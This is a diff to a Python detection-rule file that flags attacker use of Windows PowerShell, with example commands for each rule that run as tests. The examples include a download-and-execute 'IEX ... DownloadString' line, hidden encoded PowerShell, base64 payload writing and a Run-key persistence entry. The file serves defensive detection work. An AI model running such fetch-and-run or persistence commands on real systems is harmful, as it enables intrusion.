@@ -1,10 +1,11 @@
 """What programs of Windows can be told that attackers need of them, one row each; the examples run as tests."""
 
 from longtail.detections.core import NEVER, RARE, SOME, UNUSUAL, USUAL, Core, core
-from longtail.detections.predicates import contains, every, flags
+from longtail.detections.predicates import called, contains, every, flags
 
 ADMIN_SHARES = ("\\admin$", "\\ipc$", "\\c$", "\\d$", "\\e$")
 """Shares that every Windows has, for administrators."""
+EVALUATES = contains("invoke-expression", *called("iex", after=" ("), "|iex", "| iex")
 _ENCODED = tuple(f" -{name} " for name in ("e", "ec", "en", "enc", "enco", "encod", "encode", "encoded",
                                            "encodedc", "encodedcommand"))  # fmt: skip
 
@@ -43,10 +44,10 @@ WINDOWS: tuple[Core, ...] = (
          "powershell New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x",
          "powershell Get-Process"),
     core(("powershell_fetch_run!", "powershell pwsh", "runs what it fetched in memory"),
-         (contains("downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod", "iwr ", "irm ",
-         "wget "), contains("iex", "invoke-expression")), NEVER,
+         (contains("downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod", "wget ",
+         *called("iwr", "irm")), EVALUATES), NEVER,
          "powershell IEX(New-Object Net.WebClient).DownloadString('http://a/b')",
-         "powershell iwr http://a -OutFile b"),
+         "powershell iwr http://a -OutFile b; start iexplore.exe b"),
     core(("powershell_bytes", "powershell pwsh", "writes a program out of text"),
          contains("frombase64string", "writeallbytes"), UNUSUAL,
          "powershell [IO.File]::WriteAllBytes('a',[Convert]::FromBase64String(b))", "powershell Get-Process"),
@@ -54,9 +55,9 @@ WINDOWS: tuple[Core, ...] = (
          flags(*_ENCODED), SOME, "powershell -nop -w hidden -enc SQBFAFgA",
          "powershell -ExecutionPolicy Bypass -File a.ps1"),
     core(("powershell_fetch", "powershell pwsh", "fetches a file"),
-         contains("downloadfile", "downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod", "iwr ",
-         "irm ", "start-bitstransfer", "net.webclient"), SOME, "powershell iwr http://a/b -o c:\\b",
-         "powershell Get-Process"),
+         contains("downloadfile", "downloadstring", "downloaddata", "invoke-webrequest", "invoke-restmethod",
+         "start-bitstransfer", "net.webclient", *called("iwr", "irm")), SOME, "powershell iwr http://a/b -o c:\\b",
+         "powershell Stop-Service x -Confirm y"),
     core(("powershell_compile", "powershell pwsh", "compiles a program"),
          every("add-type", "-outputassembly"), RARE, "powershell Add-Type -Path a.cs -OutputAssembly b.dll",
          "powershell Add-Type -AssemblyName x"),
